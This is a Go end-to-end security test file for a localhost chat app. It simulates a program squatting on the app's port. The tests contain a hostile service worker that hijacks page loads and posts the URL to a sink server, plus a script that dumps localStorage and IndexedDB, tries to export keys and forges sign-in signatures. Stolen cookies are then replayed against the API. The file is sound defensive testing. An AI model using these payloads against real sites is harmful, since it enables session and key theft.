package browser

import (
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"

	"github.com/chromedp/chromedp"

	"webchat/internal/e2e/ports"
)

// squatter is another program on a port that webchat had, or will have.
type squatter struct {
	t       *testing.T
	servers []*httptest.Server
	mu      sync.Mutex
	cookies []string // guarded by mu
}

// squat listens where webchat does, and answers /sw.js with worker.
func squat(t *testing.T, port, worker string) *squatter {
	t.Helper()
	q := &squatter{t: t}
	for _, host := range []string{"127.0.0.1", "::1"} {
		l, err := net.Listen("tcp", net.JoinHostPort(host, port))
		if err != nil {
			t.Logf("the other program does not listen on %s: %v", host, err)
			continue
		}
		s := &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			q.mu.Lock()
			q.cookies = append(q.cookies, r.Header.Get("Cookie"))
			q.mu.Unlock()
			if r.URL.Path == "/sw.js" {
				w.Header().Set("Content-Type", "text/javascript")
				_, _ = io.WriteString(w, worker)
				return
			}
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, "<!doctype html><title>another program</title>")
		})}}
		s.Start()
		q.servers = append(q.servers, s)
	}
	return q
}

func (q *squatter) leave() {
	for _, s := range q.servers {
		s.CloseClientConnections()
		s.Close()
	}
}

func (s *site) port() string {
	_, port, _ := strings.Cut(strings.TrimPrefix(s.url, "http://"), ":")
	return port
}

// THREATS 80, before: a program that had the port left a service worker, which
// answers in webchat's place and reports what it sees. The browser's look for its
// script ends it; then a link signs in and no other program learns of it. One that only
// shows its old page loses even the link that it was given.
func TestWorkerOfTheProgramBefore(t *testing.T) {
	for name, first := range map[string]string{"one that listens": "/", "one that is merely old": "link"} {
		t.Run(name, func(t *testing.T) {
			s := start(t)
			s.down(syscall.SIGTERM)
			var mu sync.Mutex
			var heard []string // guarded by mu
			sink := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
				b, _ := io.ReadAll(r.Body)
				mu.Lock()
				defer mu.Unlock()
				heard = append(heard, string(b))
			}))
			defer sink.Close()
			page := `<!doctype html><title>worker of another program</title>`
			if first == "/" {
				page += `<script>fetch(` + quote(sink.URL) + `, { method: "POST", mode: "no-cors", body: location.href })</script>`
			}
			q := squat(t, s.port(), `addEventListener('install', () => skipWaiting())
				addEventListener('activate', (e) => e.waitUntil(clients.claim()))
				addEventListener('fetch', (e) => { if (e.request.mode === 'navigate') e.respondWith(new Response(`+quote(page)+`, { headers: { 'Content-Type': 'text/html' } })) })`)
			p := s.tab()
			p.do(chromedp.Navigate(s.url + "/"))
			p.js(`document.cookie = 'of_another_program=1'
				await navigator.serviceWorker.register('/sw.js')
				if (!navigator.serviceWorker.controller) await new Promise((done) => { navigator.serviceWorker.oncontrollerchange = done })`)
			q.leave()
			s.again()
			p.expect("Failed to load resource", "ERR_FAILED", "The user aborted")
			if first == "/" {
				p.do(chromedp.Navigate(s.url + "/"))
				p.is(`document.title`, "worker of another program")
			} else {
				p.do(chromedp.Navigate(s.link))
			}
			if p.wait(`'page' in document.body.dataset || 'probe' in document.body.dataset || 'joined' in document.body.dataset`); first == "/" {
				p.do(chromedp.Navigate(s.link))
			}
			p.live()
			if got := eval[float64](p, `navigator.serviceWorker.getRegistrations().then((all) => all.length)`); got != 0 {
				t.Errorf("%v service workers are left", got)
			}
			if !strings.Contains(eval[string](p, `document.cookie`), "of_another_program=1") {
				t.Error("the cookie of another program is gone")
			}
			p.see("show me go.mod")
			p.wait(card)
			mu.Lock()
			defer mu.Unlock()
			if first == "/" && len(heard) == 0 {
				t.Error("the worker told nothing at all, so nothing was tried")
			}
			for _, what := range heard {
				if strings.Contains(what, "t=") {
					t.Errorf("the worker saw the link: %s", what)
				}
			}
		})
	}
}

// loot is what a page can read of what pages of its origin stored before.
const loot = `(async () => {
	const got = { ...localStorage }
	for (const { name } of await indexedDB.databases()) {
		const db = await new Promise((done, fail) => { const r = indexedDB.open(name); r.onsuccess = () => done(r.result); r.onerror = fail })
		for (const store of db.objectStoreNames) {
			const all = await new Promise((done) => { const r = db.transaction(store).objectStore(store).getAll(); r.onsuccess = () => done(r.result) })
			for (const one of all) {
				for (const format of ['pkcs8', 'jwk', 'raw']) {
					try { got[name + format] = JSON.stringify(await crypto.subtle.exportKey(format, one)) } catch { /* as it should be */ }
				}
				const bytes = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, one, new TextEncoder().encode('webchat sign-in '))
				got.signature = btoa(String.fromCharCode(...new Uint8Array(bytes)))
			}
		}
	}
	return JSON.stringify(got)
})()`

// THREATS 80, after: a program that has the port next reads all that webchat's page
// stored, and its server gets the cookie. None of it acts, here, on another port
// or on another server; the browser itself stays signed in.
func TestProgramAfterReadsTheStore(t *testing.T) {
	s := start(t)
	port := s.port()
	p := s.open("/")
	p.see("show me go.mod")
	p.wait(card)
	p.done()
	s.down(syscall.SIGTERM)
	q := squat(t, port, "")
	p.expect(append(refused, "401")...)
	p.do(chromedp.Navigate(s.url + "/"))
	p.is(`document.title`, "another program")
	var got map[string]string
	if err := json.Unmarshal([]byte(eval[string](p, loot)), &got); err != nil {
		t.Fatal(err)
	}
	q.leave()
	if got["webchat.secret"] == "" {
		t.Fatalf("nothing was stored, so nothing was tried: %v", got)
	}
	for name := range got {
		if strings.HasPrefix(name, "webchat.proof") {
			t.Errorf("the key can be read: %s", name)
		}
	}
	q.mu.Lock()
	cookie := q.cookies[len(q.cookies)-1]
	q.mu.Unlock()
	if !strings.Contains(cookie, "webchat_"+port+"=") {
		t.Fatalf("the other program got no cookie, so nothing was tried: %q", cookie)
	}
	try := func(where string, at *site, read int) {
		t.Helper()
		sent := strings.ReplaceAll(cookie, "webchat_"+port+"=", "webchat_"+at.port()+"=")
		if status := attempt(t, at, "GET", "/api/sessions", "", "Cookie", sent); status != read {
			t.Errorf("%s the cookie reads: %d, want %d", where, status, read)
		}
		for what, status := range map[string]int{
			"writes with what was stored": attempt(t, at, "POST", "/api/sessions", "{}", "Authorization", "Bearer "+got["webchat.secret"]),
			"writes with the cookie":      attempt(t, at, "POST", "/api/sessions", "{}", "Cookie", sent),
			"is renewed by a signature":   attempt(t, at, "POST", "/api/sign-in", `{"signature":"`+got["signature"]+`"}`, "Cookie", sent),
		} {
			if status != 401 {
				t.Errorf("%s it %s: %d", where, what, status)
			}
		}
	}
	home, data := strings.TrimPrefix(s.url, "http://"), s.data
	s.up("localhost:" + ports.Free())
	try("on another port", s, 401)
	s.down(syscall.SIGTERM)
	s.data = filepath.Join(t.TempDir(), "data")
	s.up(home)
	try("on another server", s, 401)
	s.down(syscall.SIGTERM)
	s.data = data
	s.up(home)
	try("on the same server, begun again,", s, 200)
	p.do(chromedp.Navigate(s.url + "/"))
	p.live()
	p.see("show me README.md")
	p.wait(card)
}

func attempt(t *testing.T, s *site, method, path, body, name, value string) int {
	t.Helper()
	r, err := http.NewRequest(method, s.url+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	r.Header.Set(name, value)
	r.Header.Set("Content-Type", "application/json")
	res, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	return res.StatusCode
}
